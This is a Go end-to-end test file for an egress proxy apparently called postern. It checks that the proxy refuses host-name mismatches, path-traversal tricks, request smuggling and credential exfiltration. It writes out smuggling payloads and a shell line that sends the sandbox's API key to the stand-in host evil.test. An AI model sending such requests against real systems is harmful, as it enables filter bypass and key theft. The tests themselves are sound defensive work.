package e2e

import (
	"crypto/tls"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"postern/internal/testkit"
)

func server(t *testing.T, w *world, name string) *testkit.Server {
	t.Helper()
	for _, s := range w.Servers() {
		if s.Name == name {
			return s
		}
	}
	t.Fatalf("no server %s", name)
	return nil
}

// raw sends bytes to a server of the internet over TLS, as the host may: the control of an attack with bytes of its own.
func raw(w *world, to, sni, text string) func(*testing.T, string) {
	return func(t *testing.T, nonce string) {
		t.Helper()
		c, err := tls.DialWithDialer(&net.Dialer{Timeout: 5 * time.Second}, "tcp", server(t, w, to).Addr, &tls.Config{ServerName: sni, InsecureSkipVerify: true, NextProtos: []string{"http/1.1"}})
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		_ = c.SetDeadline(time.Now().Add(5 * time.Second))
		if _, err := io.WriteString(c, strings.NewReplacer("{nonce}", nonce, `\r`, "\r", `\n`, "\n").Replace(text)); err != nil {
			t.Fatal(err)
		}
		_, _ = io.ReadAll(io.LimitReader(c, 64<<10))
	}
}

// plain makes an ordinary request to a server without postern.
func plain(w *world, to, method, path string) func(*testing.T, string) {
	return func(t *testing.T, nonce string) {
		t.Helper()
		r, err := http.NewRequestWithContext(t.Context(), method, "https://"+to+strings.ReplaceAll(path, "{nonce}", nonce), nil)
		if err != nil {
			t.Fatal(err)
		}
		resp, err := server(t, w, to).Client().Do(r)
		if err != nil {
			t.Fatal(err)
		}
		_ = resp.Body.Close()
	}
}

func get(host, path string) string {
	return `GET ` + path + ` HTTP/1.1\r\nHost: ` + host + `\r\nConnection: close\r\n\r\n`
}

// TestNamesThatDisagreeAreRefused: the address asked by DNS, CONNECT, SNI and Host are one name, or nothing is forwarded.
func TestNamesThatDisagreeAreRefused(t *testing.T) {
	w := newWorld(t, testkit.Ordinary())
	probe := func(args ...string) []string { return append([]string{probePath(t)}, args...) }
	const path = "/{nonce}"
	rows := []testkit.Attack{
		{Name: "SNI open, Host secret", Control: raw(w, "echo.test", "open.test", get("echo.test", path)), Attempt: probe("tls", "-sni", "open.test", "open.test:443", get("echo.test", path)), Reason: "authority.mismatch"},
		{Name: "SNI secret, Host evil", Control: raw(w, "evil.test", "echo.test", get("evil.test", path)), Attempt: probe("tls", "-sni", "echo.test", "echo.test:443", get("evil.test", path)), Reason: "authority.mismatch"},
		{Name: "SNI evil, Host open", Control: raw(w, "open.test", "evil.test", get("open.test", path)), Attempt: probe("tls", "-sni", "evil.test", "evil.test:443", get("open.test", path))},
		{Name: "another name's address", Control: raw(w, "echo.test", "echo.test", get("echo.test", path)), Attempt: probe("tls", "-sni", "echo.test", "evil.test:443", get("echo.test", path))},
		{Name: "CONNECT open, SNI evil", Control: raw(w, "evil.test", "evil.test", get("evil.test", path)), Attempt: probe("tls", "-connect", "open.test:443", "-sni", "evil.test", "open.test:443", get("evil.test", path))},
		{Name: "absolute form of another host", Control: raw(w, "echo.test", "open.test", "GET https://echo.test/{nonce} HTTP/1.1\\r\\nHost: open.test\\r\\nConnection: close\\r\\n\\r\\n"), Attempt: probe("tls", "-sni", "open.test", "open.test:443", "GET https://echo.test/{nonce} HTTP/1.1\\r\\nHost: open.test\\r\\nConnection: close\\r\\n\\r\\n")},
		{Name: "second request to another host", Control: raw(w, "echo.test", "open.test", get("echo.test", path)), Attempt: probe("tls", "-sni", "open.test", "open.test:443", "GET /first HTTP/1.1\\r\\nHost: open.test\\r\\n\\r\\n"+get("echo.test", path))},
		{Name: "trailing dot", Control: raw(w, "evil.test", "evil.test", get("evil.test.", path)), Attempt: probe("tls", "-sni", "open.test", "open.test:443", get("evil.test.", path))},
		{Name: "brackets", Control: raw(w, "open.test", "open.test", get("open.test", path)), Attempt: probe("tls", "-sni", "open.test", "open.test:443", get("[open.test]", path))},
		{Name: "userinfo", Control: raw(w, "evil.test", "evil.test", get("evil.test", path)), Attempt: probe("tls", "-sni", "open.test", "open.test:443", get("open.test@evil.test", path))},
		{Name: "no SNI", Control: raw(w, "open.test", "open.test", get("open.test", path)), Attempt: probe("tls", "open.test:443", get("open.test", path)), Reason: "tls.no_server_name"},
		{Name: "two Hosts", Control: raw(w, "open.test", "open.test", get("open.test", path)), Attempt: probe("tls", "-sni", "open.test", "open.test:443", "GET /{nonce} HTTP/1.1\\r\\nHost: open.test\\r\\nHost: echo.test\\r\\n\\r\\n")},
		{Name: "HTTP/2 :authority of another host", Control: plain(w, "echo.test", "GET", path), Attempt: probe("h2", "-sni", "open.test", "-H", ":method: GET", "-H", ":scheme: https", "-H", ":authority: echo.test", "-H", ":path: /{nonce}", "open.test:443"), Reason: "authority.mismatch"},
		{Name: "HTTP/2 host field of another host", Control: plain(w, "echo.test", "GET", path), Attempt: probe("h2", "-sni", "open.test", "-H", ":method: GET", "-H", ":scheme: https", "-H", ":path: /{nonce}", "-H", "host: echo.test", "open.test:443")},
		{Name: "a host in no rule", Control: plain(w, "evil.test", "GET", path), Attempt: []string{"curl", "-sS", "https://evil.test/{nonce}"}, Reason: "host.not_listed"},
		{Name: "a name in a query", Control: plain(w, "evil.test", "GET", "/?{nonce}"), Attempt: []string{"curl", "-sS", "https://{nonce}.evil.test/"}},
		{Name: "its address instead of its name", Control: plain(w, "open.test", "GET", path), Attempt: []string{"curl", "-ksS", "https://192.0.2.7/{nonce}"}},
	}
	w.attacks(t, rows)
}

func TestRequestsThatNoRuleAllowsAreRefused(t *testing.T) {
	w := newWorld(t, testkit.Ordinary())
	probe := func(args ...string) []string { return append([]string{probePath(t)}, args...) }
	curl := func(args ...string) []string { return append([]string{"curl", "-sS", "--path-as-is"}, args...) }
	rows := []testkit.Attack{
		{Name: "another path", Control: plain(w, "readonly.test", "GET", "/private/{nonce}"), Attempt: curl("https://readonly.test/private/{nonce}"), Reason: "path.not_listed"},
		{Name: "another method", Control: plain(w, "readonly.test", "POST", "/public/{nonce}"), Attempt: curl("-X", "POST", "https://readonly.test/public/{nonce}"), Reason: "method.not_listed"},
		{Name: "dot segments", Control: plain(w, "readonly.test", "GET", "/private/{nonce}"), Attempt: curl("https://readonly.test/public/../private/{nonce}"), Reason: "path.malformed"},
		{Name: "encoded dots", Control: plain(w, "readonly.test", "GET", "/private/{nonce}"), Attempt: curl("https://readonly.test/public/%2e%2e/private/{nonce}"), Reason: "path.malformed"},
		{Name: "encoded slash", Control: plain(w, "readonly.test", "GET", "/private/{nonce}"), Attempt: curl("https://readonly.test/public/..%2fprivate/{nonce}")},
		{Name: "backslash", Control: plain(w, "readonly.test", "GET", "/private/{nonce}"), Attempt: probe("tls", "-sni", "readonly.test", "readonly.test:443", get("readonly.test", `/public/..\\private/{nonce}`))},
		{Name: "a denied path of an allowed host", Control: plain(w, "open.test", "GET", "/forbidden/{nonce}"), Attempt: curl("https://open.test/forbidden/{nonce}"), Reason: "rule.denies"},
		{Name: "TRACE", Control: plain(w, "open.test", "TRACE", "/{nonce}"), Attempt: probe("tls", "-sni", "open.test", "open.test:443", `TRACE /{nonce} HTTP/1.1\r\nHost: open.test\r\nConnection: close\r\n\r\n`), Reason: "method.unknown"},
		{Name: "lower-case method", Control: plain(w, "open.test", "POST", "/{nonce}"), Attempt: probe("tls", "-sni", "open.test", "open.test:443", `post /{nonce} HTTP/1.1\r\nHost: open.test\r\nConnection: close\r\n\r\n`)},
		{Name: "two lengths", Control: plain(w, "open.test", "POST", "/{nonce}"), Attempt: probe("tls", "-sni", "open.test", "open.test:443", `POST /{nonce} HTTP/1.1\r\nHost: open.test\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`), Reason: "request.malformed"},
		{Name: "smuggled second request", Control: plain(w, "readonly.test", "GET", "/private/{nonce}"), Attempt: probe("tls", "-sni", "readonly.test", "readonly.test:443", `GET /public/x HTTP/1.1\r\nHost: readonly.test\r\nContent-Length: 60\r\n\r\nGET /private/{nonce} HTTP/1.1\r\nHost: readonly.test\r\n\r\n`), Sink: func(nonce string) int {
			return len(w.Log.Find(func(r *testkit.Request) bool { return strings.Contains(r.Target, nonce) }))
		}, Twin: curl("https://readonly.test/public/{nonce}")},
		{Name: "a WebSocket that no rule allows", Control: plain(w, "readonly.test", "GET", "/public/ws-{nonce}"), Attempt: probe("ws", "wss://readonly.test/public/ws-{nonce}"), Reason: "upgrade.not_listed"},
		{Name: "another port of an allowed host", Control: plain(w, "open.test", "GET", "/{nonce}"), Attempt: curl("https://open.test:8443/{nonce}")},
		{Name: "cleartext to a host with a credential", Control: plain(w, "echo.test", "GET", "/{nonce}"), Attempt: curl("http://echo.test/{nonce}")},
		{Name: "an upstream with a wrong certificate", Control: raw(w, "wrong-name.test", "wrong-name.test", get("wrong-name.test", "/{nonce}")), Attempt: curl("https://wrong-name.test/{nonce}"), Reason: "upstream.certificate"},
	}
	w.attacks(t, rows)
}

func (w *world) attacks(t *testing.T, rows []testkit.Attack) {
	t.Helper()
	table := testkit.Attacks{House: w.House, Net: w.Net, Rows: rows, Flags: []string{"--mount", probeDir(t) + ":/mnt/probe"}, Twin: []string{"curl", "-fsS", "https://open.test/{nonce}"}}
	table.Run(t)
}

func TestTheSandboxsOwnCredentialsDoNotLeave(t *testing.T) {
	w := newWorld(t, testkit.Ordinary())
	const foreign = "attackers-own-key-0123456789"
	carriers := [][]string{
		{"-H", "Authorization: Bearer " + foreign}, {"-H", "X-Api-Key: " + foreign}, {"-H", "Cookie: session=" + foreign}, {"-H", "Proxy-Authorization: Basic " + foreign},
		{"-H", "X-Goog-Api-Key: " + foreign}, {"-H", "Api-Key: " + foreign}, {"-H", "Private-Token: " + foreign}, {"-u", "x:" + foreign},
	}
	for _, c := range carriers {
		for _, url := range []string{"https://open.test/", "https://echo.test/", "https://readonly.test/public/"} {
			w.Run(t, append(append([]string{"curl", "-sS"}, c...), url)...)
		}
		w.Run(t, append(append([]string{"curl", "-sS", "-d", `{"messages":[]}`}, c...), "https://api.anthropic.com/v1/messages")...)
	}
	for _, r := range w.Log.All() {
		for name, values := range r.Header {
			if strings.Contains(strings.Join(values, " "), foreign) {
				t.Errorf("%s: %s carried a credential of the sandbox's own", r.Server, name)
			}
		}
	}
	if len(w.Log.To("echo.test")) == 0 {
		t.Error("nothing arrived: nothing was proved")
	}
}

func TestPlaceholdersWorkInTheirSlotAndNowhereElse(t *testing.T) {
	w := newWorld(t, testkit.Ordinary())
	r := w.Run(t, "sh", "-c", "printf %s \"$ANTHROPIC_API_KEY\"")
	if r.Stdout == "" || !strings.HasPrefix(r.Stdout, "sk-ant-api03-") {
		t.Fatalf("no placeholder in the sandbox: %q %s", r.Stdout, r.Stderr)
	}
	before := len(w.Log.All())
	w.Run(t, "sh", "-c", `k=$ANTHROPIC_API_KEY; m=https://api.anthropic.com/v1/messages
		curl -sS $m -H "x-api-key: nothing" -d '{}'; curl -sS "$m?key=$k" -d '{}'; curl -sS $m -H "user-agent: $k" -d '{}'; curl -sS $m -H "referer: https://x/$k" -d '{}'
		curl -sS https://open.test/ -H "x-api-key: $k"; curl -sS https://open.test/$k; curl -sS https://evil.test/$k; curl -sS https://open.test/ -H "x-note: $k"`)
	for _, got := range w.Log.All()[before:] {
		for name, values := range got.Header {
			if strings.Contains(strings.Join(values, " "), w.modelKey.Random) {
				t.Errorf("%s: the real key stands in %s", got.Server, name)
			}
		}
		if strings.Contains(got.Target, w.modelKey.Random) {
			t.Errorf("%s: the real key stands in the target", got.Server)
		}
	}
	// The placeholder of an ended session is nothing but a foreign credential.
	before = len(w.Log.To("api.anthropic.com"))
	w.Run(t, "curl", "-sS", "https://api.anthropic.com/v1/messages", "-H", "x-api-key: "+r.Stdout, "-d", "{}")
	if n := len(w.Log.To("api.anthropic.com")) - before; n != 0 {
		t.Errorf("%d requests with another session's placeholder arrived", n)
	}
}

func TestRedirectsAreReturnedAndNotFollowed(t *testing.T) {
	w := newWorld(t, testkit.Ordinary())
	r := ok(t, w.Run(t, "curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "https://echo.test/?as=location"))
	if r.Stdout != "302" || len(w.Log.To("echo.test")) != 1 {
		t.Errorf("got %q and %d requests", r.Stdout, len(w.Log.To("echo.test")))
	}
}
